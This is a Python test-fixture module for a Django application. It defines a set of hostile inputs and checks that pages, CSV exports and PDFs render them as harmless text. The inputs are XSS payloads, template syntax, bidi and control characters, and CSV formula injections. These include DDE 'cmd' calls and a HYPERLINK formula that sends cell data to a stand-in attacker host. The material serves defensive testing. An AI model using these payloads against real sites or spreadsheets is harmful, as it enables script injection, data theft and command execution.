"""One set of hostile texts, and the checks that a page, a PDF or a CSV shows them harmlessly.

Every test in tests/hostile/ pushes the same `HOSTILE` texts through ingestion
(the Meta webhook, the ingestion API, registration by hand) and then through the
pages, exports and e-mails that show them. The rule they prove: what came in is
stored exactly, character for character, and shown everywhere as text.

The one documented exception is NUL (U+0000): PostgreSQL's text and jsonb
cannot hold it. A webhook's raw body is kept byte for byte, and NUL in the
items derived from it becomes U+FFFD; the API and the form refuse NUL with a
400 naming the field (`NUL_FROM_WEBHOOK`, tests in test_ingest.py).
"""

import csv
import io
from html.parser import HTMLParser

from django.utils.html import escape

# What the browser test looks for: set only if any payload ever runs.
PWNED = "window.__pwned"

HOSTILE = [
    (
        "markup",
        "<b>fet</b> <i>kursiv</i> </p></div></td></table></textarea><!-- kommentar --> "
        "&amp; &lt;redan escapad&gt; &#60;b&#62; \"citat\" 'apostrof'",
    ),
    ("script", '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=1">'),
    (
        "javascript_link",
        '<a href="javascript:window.__pwned=1">klicka här</a> javascript:window.__pwned=1 '
        "JaVaScRiPt:window.__pwned=1",
    ),
    (
        "attribute_break",
        '"><svg onload="window.__pwned=1"></svg>\'><iframe '
        'srcdoc="<script>window.__pwned=1</script>"></iframe>',
    ),
    ("template_syntax", "{{ request.user }} {% csrf_token %} ${7*7} %(name)s {0} <br/> <para>"),
    (
        "control_characters",
        "Rad ett\r\nRad två\x07\x08\x0b\x0c\x1b[31mröd\x1b[0m\x7f\x85\u2028slut\x01\x1f",
    ),
    (
        "bidi",
        "Faktura \u202efdp.exe\u202c \u2066isolerad\u2069 \u200b\u200c\u200d\u2060\ufeff "
        "noll-bredd \u061c\u200f مرحبا",
    ),
    ("backslashes", 'C:\\Users\\u0000 \\x00 \\n \\" \\\\ literal'),
    ("formula_equals", '=HYPERLINK("https://angripare.example/?d="&A1,"Klicka")'),
    ("formula_plus", "+46 70 123 45 67"),
    ("formula_minus", "-2+3+cmd|' /C calc'!A0"),
    ("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("formula_tab", "\t=1+1"),
    ("formula_cr", "\r=1+1"),
    (
        "long",
        ("Ett mycket långt inlägg <script>window.__pwned=1</script> & så vidare. " * 1500)[
            :100_000
        ],
    ),
]
assert len(HOSTILE[-1][1]) == 100_000

# The sender's name: markup and a formula at once (at most 255 characters).
SENDER = '=HYPERLINK("https://angripare.example") <img src=x onerror="window.__pwned=1">'

# Characters a spreadsheet takes as the start of a formula (OWASP "CSV injection").
CSV_DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# NUL from a webhook is stored as U+FFFD; the delivery keeps the bytes.
NUL_FROM_WEBHOOK = (
    "Hej\x00då <script>window.__pwned=1</script>",
    "Hej\ufffddå <script>window.__pwned=1</script>",
)

# Text a PDF in a standard font can show: the payloads of Latin-1 characters
# (the others' control and right-to-left characters are drawn as boxes).
PDF_READABLE = [name for name, _text in HOSTILE if name not in {"control_characters", "bidi"}]


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def page_tags(html: str) -> list:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


def assert_harmless(html: str, where: str = "") -> None:
    """No element or attribute in `html` came from a payload: only the site's own markup.

    The site's pages use no inline script, no event-handler attribute, no
    javascript: address, no iframe, and images only from /static/.
    """
    for tag, attrs in page_tags(html):
        attributes = dict(attrs)
        # The site's own inline chart is an svg; a payload's svg would carry onload (below).
        assert tag not in {"iframe", "object", "embed", "para"}, (where, tag, attrs)
        if tag == "script":
            # Files only (the admin's translation catalogue too), or inert JSON data.
            source = attributes.get("src") or ""
            inert = attributes.get("type") == "application/json" and not source
            assert source.startswith(("/static/", "/admin/jsi18n/")) or inert, (where, attrs)
        if tag == "img":
            assert (attributes.get("src") or "").startswith(("/static/", "data:")), (where, attrs)
        for name, value in attrs:
            assert not name.startswith("on"), (where, tag, attrs)
            assert name != "srcdoc", (where, tag, attrs)
            if name in URL_ATTRIBUTES:
                url = (value or "").strip().lower()
                assert not url.startswith(("javascript:", "data:text")), (where, tag, attrs)
    lowered = html.lower()
    assert 'href="javascript:' not in lowered, where
    assert "<script>window.__pwned" not in html, where


def assert_shown_as_text(html: str, text: str, where: str = "") -> None:
    """The whole text is on the page, escaped (what a browser shows as the text itself)."""
    assert escape(text) in html, (where, text[:80])


def csv_rows(data: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.lstrip("\ufeff"), newline="")))


def assert_cells_neutralised(rows: list[list[str]], where: str = "") -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(CSV_DANGEROUS), (where, cell[:80])


def neutralised(text: str) -> str:
    """The cell a CSV export writes for `text`."""
    return "'" + text if text.startswith(CSV_DANGEROUS) else text


def squeeze(text: str) -> str:
    """Whitespace collapsed: a PDF's extracted text breaks lines where the layout did."""
    return "".join(text.split())
